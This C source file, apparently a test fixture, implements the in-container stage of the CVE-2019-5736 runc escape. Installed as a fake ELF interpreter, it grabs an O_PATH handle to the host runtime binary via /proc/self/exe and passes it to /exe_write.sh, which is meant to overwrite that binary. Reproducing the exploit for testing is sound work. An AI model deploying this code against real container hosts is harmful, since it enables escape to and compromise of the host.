/* The CVE-2019-5736 attacker, as an image would ship it: installed as the
 * image's ELF interpreter (/lib64/ld-linux-x86-64.so.2), it is what the kernel
 * runs when the container execs a dynamically linked binary; if that binary
 * is the runtime (an entrypoint of /proc/self/exe), /proc/self/exe is the
 * runtime's file on the host. It keeps an O_PATH handle to it as fd 9 and
 * hands over to /exe_write.sh, which tries to write through it once the file is
 * no longer busy. Raw system calls only: no libc, so no loader is needed.
 * x86_64. */
#define NR_OPEN 2
#define NR_DUP2 33
#define NR_EXECVE 59
#define NR_EXIT 60
#define O_PATH_FLAG 010000000

static long sys3(long n, long a, long b, long c)
{
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

void _start(void)
{
  long fd = sys3(NR_OPEN, (long) "/proc/self/exe", O_PATH_FLAG, 0);
  if (fd >= 0)
    sys3(NR_DUP2, fd, 9, 0);
  static char *const argv[] = { "/bin/sh", "/exe_write.sh", 0 };
  static char *const envp[] = { "PATH=/bin:/sbin:/usr/bin", 0 };
  sys3(NR_EXECVE, (long) "/bin/sh", (long) argv, (long) envp);
  sys3(NR_EXIT, 127, 0, 0);
  for (;;)
    ;
}
